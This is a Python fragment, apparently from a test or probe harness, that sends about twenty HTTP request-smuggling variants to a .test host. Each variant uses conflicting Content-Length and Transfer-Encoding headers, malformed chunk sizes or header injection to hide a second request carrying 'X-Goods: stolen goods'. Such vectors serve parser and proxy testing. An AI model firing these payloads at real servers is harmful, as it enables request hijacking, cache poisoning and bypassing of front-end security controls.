hidden = head("evil55.test", "X-Goods: stolen goods")
size = f"Content-Length: {len(hidden)}"
for headers, body in (
    ((size, "Transfer-Encoding: chunked"), b"0\r\n\r\n" + hidden),
    (("Transfer-Encoding: chunked", size), b"0\r\n\r\n" + hidden),
    ((size, "Content-Length: 0"), hidden),
    (("Content-Length: 0", "Content-Length: 0"), hidden),
    (("Content-Length: +0",), hidden),
    (("Content-Length: 0x0",), hidden),
    (("Transfer-Encoding: xchunked",), b"0\r\n\r\n" + hidden),
    (("Transfer-Encoding: chunked, identity",), b"0\r\n\r\n" + hidden),
    (("Transfer-Encoding : chunked",), b"0\r\n\r\n" + hidden),
    (("Transfer-Encoding:\x0bchunked",), b"0\r\n\r\n" + hidden),
    (("Transfer-Encoding: chunked",), b"0;x=\n\r\n\r\n" + hidden),
    (("Transfer-Encoding: chunked",), b"-1\r\n\r\n" + hidden),
    (("Transfer-Encoding: chunked",), b"0\n\n" + hidden),
    (("Transfer-Encoding: chunked",), b"10000000000000000\r\n" + hidden),
    (("X: y\n" + "X-Goods: stolen goods",), b""),
    (("X-Goods: stolen goods", "X: " + "y" * 70000), b""),
    (("X-Goods: stolen goods", *(f"X{number}: y" for number in range(300))), b""),
    (("X-Goods: stolen goods", "X: y", " folded: z"), b""),
    ((), hidden),
):
    print(word(connect, "f55.wild.test:80", head("f55.wild.test", *headers, method="POST") + body))
